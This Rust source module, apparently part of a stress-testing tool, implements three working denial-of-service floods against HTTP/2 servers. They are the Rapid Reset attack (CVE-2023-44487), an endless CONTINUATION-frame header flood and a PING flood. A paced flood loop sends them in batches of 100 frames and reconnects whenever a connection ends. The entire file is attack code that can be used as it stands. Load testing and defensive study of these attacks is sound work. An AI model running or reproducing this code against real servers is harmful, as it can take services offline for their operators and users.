//! Attacks on HTTP/2, which both ports speak. One connection at a time, another as soon as it is ended.
use super::{
    Plan, Seen,
    http2::{CONTINUATION, END_HEADERS, END_STREAM, GET, HEADERS, Http2, PING, RST_STREAM, frame},
    pace::Pace,
};
use std::net::SocketAddr;

/// The code of one who has changed its mind.
const CANCEL: [u8; 4] = 8u32.to_be_bytes();

/// Streams that are opened and reset at once (CVE-2023-44487).
pub(super) async fn rapid_reset(plan: &Plan, address: SocketAddr, seen: &mut Seen) {
    flood(plan, address, seen, "streams opened and reset", |connection, out| {
        let stream = connection.next;
        connection.next += 2;
        out.extend(frame(HEADERS, END_HEADERS | END_STREAM, stream, GET));
        out.extend(frame(RST_STREAM, 0, stream, &CANCEL));
    })
    .await;
}

/// A head that never ends.
pub(super) async fn continuation(plan: &Plan, address: SocketAddr, seen: &mut Seen) {
    // A literal without indexing: a name of one letter, a value of 100.
    let field = [&b"\x00\x01x\x64"[..], &[b'y'; 100]].concat();
    let fields = field.repeat(10);
    flood(plan, address, seen, "CONTINUATION frames of 1 KiB", |connection, out| {
        if connection.next == 1 {
            out.extend(frame(HEADERS, END_STREAM, 1, GET));
            connection.next = 3;
        }
        out.extend(frame(CONTINUATION, 0, 1, &fields));
    })
    .await;
}

/// Pings, each of which is to be answered.
pub(super) async fn pings(plan: &Plan, address: SocketAddr, seen: &mut Seen) {
    flood(plan, address, seen, "PING frames", |_, out| {
        out.extend(frame(PING, 0, 0, b"knockdoor"[..8].as_ref()))
    })
    .await;
}

async fn flood(
    plan: &Plan,
    address: SocketAddr,
    seen: &mut Seen,
    what: &str,
    mut one: impl FnMut(&mut Http2, &mut Vec<u8>),
) {
    /// In one write. As many as that at once are what makes an attack of it: one after the other they are an impatient client, whom a server
    /// serves at its pace.
    const TOGETHER: u64 = 100;
    let mut saved = 0;
    let mut pace = Pace::new(plan.rate, plan.lasting);
    let mut connection: Option<Http2> = None;
    while let Some(portion) = pace.portion().await {
        saved += portion;
        while saved >= TOGETHER {
            let mut open = match connection.take() {
                Some(open) => open,
                None => match Http2::open(address).await {
                    Ok(open) => {
                        seen.did("connections", 1);
                        open
                    }
                    Err(why) => {
                        seen.answer(why);
                        break;
                    }
                },
            };
            saved -= TOGETHER;
            let mut out = Vec::new();
            (0..TOGETHER).for_each(|_| one(&mut open, &mut out));
            seen.did(what, TOGETHER);
            let taken = open.send(&out).await;
            let goes_on = open.hear(seen);
            if goes_on && taken {
                connection = Some(open);
            } else if goes_on {
                open.last_words(seen).await;
            }
        }
    }
    if let Some(open) = connection {
        open.last_words(seen).await;
    }
}
